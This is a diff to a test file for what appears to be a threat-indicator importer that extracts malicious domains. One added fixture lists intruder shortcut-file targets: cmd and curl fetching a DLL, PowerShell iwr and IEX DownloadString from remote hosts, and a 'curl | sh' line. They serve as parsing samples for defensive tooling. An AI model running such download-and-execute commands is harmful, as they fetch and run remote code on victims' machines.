@@ -131,6 +131,19 @@ const NOTES: readonly (readonly [what: string, text: string, names: readonly str
     ['kabarawan.com'],
   ],
   [
+    "what an intruder's commands fetch, and not what the reader is told to",
+    lines(
+      'LNK TARGETS',
+      'C:\\Windows\\System32\\cmd.exe /q /c echo "x" && ping NP2F.com && curl.exe -o C:\\Users\\a\\b.dll https://kabarawan.com/a.png',
+      'powershell.exe -NoExit iwr -Uri https://awan-data77.com/D.png -OutFile $env:TEMP\\x',
+      'powershell IEX (New-Object Net.WebClient).DownloadString("http://rapatdaring.wiki/i.php")',
+      'explorer.exe https://news-lentera.com/a C:\\x',
+      'curl https://raw.lentera-labs.com/check.sh | sh',
+      'More of powershell.exe: https://lentera-labs.com/blog',
+    ),
+    ['kabarawan.com', 'awan-data77.com', 'rapatdaring.wiki'],
+  ],
+  [
     "names below roots of somebody's own",
     lines('C2 domains:', 'rekening-awan.bit', 'kabar[.]bazar', 'rapat.com.lan'),
     ['rekening-awan.bit', 'kabar.bazar'],
@@ -249,6 +262,24 @@ t.test('whom a bot attacks by its orders is a victim', async (t) => {
     await imported(feed, 'feed.xml'),
     ['kabarawan.com'],
     'a field of hosts alone says nothing against them',
+  );
+});
+
+t.test('a name whose end nobody knows is none where any indicator may stand', async (t) => {
+  t.same(
+    await imported(
+      lines('kabarawan.com', 'awan.xzy', 'data.ddnsnet', '192.0.2.1:80', 'https://rapatdaring.wiki/a'),
+    ),
+    ['kabarawan.com', 'rapatdaring.wiki'],
+  );
+});
+
+t.test('a list of false positives is none of names to block', async (t) => {
+  for (const name of ['fps_2026.txt', 'false-positives.txt', 'FalsePositive.csv'])
+    t.same(await imported(lines('kabarawan.com', 'awan-data77.com', 'rapatdaring.wiki'), name), [], name);
+  t.equal(
+    (await imported(lines('kabarawan.com', 'awan-data77.com', 'rapatdaring.wiki'), 'fps-loader.txt')).length,
+    3,
   );
 });
 
